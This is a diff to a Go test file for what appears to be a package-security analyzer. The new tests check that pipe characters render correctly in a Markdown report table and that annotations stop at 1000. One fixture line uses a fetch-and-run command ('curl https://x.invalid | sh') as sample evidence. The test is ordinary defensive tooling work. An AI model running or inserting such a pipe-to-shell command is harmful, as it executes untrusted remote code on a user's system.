@@ -10,6 +10,8 @@ import (
 	"testing"
 
 	"github.com/owenrumney/go-sarif/v3/pkg/report/v210/sarif"
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/extension"
 
 	"github.com/lockwarden/lockwarden/analyzer"
 	"github.com/lockwarden/lockwarden/analyzer/behavior"
@@ -263,6 +265,40 @@ func TestFilters(t *testing.T) {
 		}
 		if got != want {
 			t.Errorf("%s: %q, want %q", query, got, want)
+		}
+	}
+}
+
+// TestPipes: a pipe is shown as it stands in code, and ends no cell of a table.
+func TestPipes(t *testing.T) {
+	r := made(1, "")
+	r.Packages[0].Report.Issues[0].Evidence[0].Snippet = "curl https://x.invalid | sh"
+	r.Packages[0].Change.File = "a|b/package-lock.json"
+	for _, at := range []Place{{}, {Blob: "https://github.com/a/b/blob/c/"}} {
+		c := Check(r, policy.Judge(policy.Default(), r, nil), at)
+		var page strings.Builder
+		if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte(c.Summary+"\n\n"+c.Text), &page); err != nil {
+			t.Fatal(err)
+		}
+		for _, want := range []string{"<code>curl https://x.invalid | sh</code>", "a|b/package-lock.json:"} {
+			if !strings.Contains(page.String(), want) {
+				t.Errorf("%q is not shown:\n%s", want, page.String())
+			}
+		}
+		row := page.String()[strings.Index(page.String(), "<tbody>"):]
+		if row = row[:strings.Index(row, "</tbody>")]; strings.Count(row, "<td") != 6 || !strings.Contains(row, "blocks") && !strings.Contains(row, "blocked") {
+			t.Errorf("the row has %d cells:\n%s", strings.Count(row, "<td"), row)
+		}
+	}
+}
+
+// TestAnnotationsHaveALimit: what has no annotation is said.
+func TestAnnotationsHaveALimit(t *testing.T) {
+	for n, want := range map[int]int{1000: 1000, 1001: 1000} {
+		r := made(n, "")
+		c := Check(r, policy.Judge(policy.Default(), r, nil), Place{})
+		if said := strings.Contains(c.Summary, "1000 of 1001 findings"); len(c.Annotations) != want || said != (n > 1000) {
+			t.Errorf("%d findings: %d annotations, said: %v", n, len(c.Annotations), said)
 		}
 	}
 }
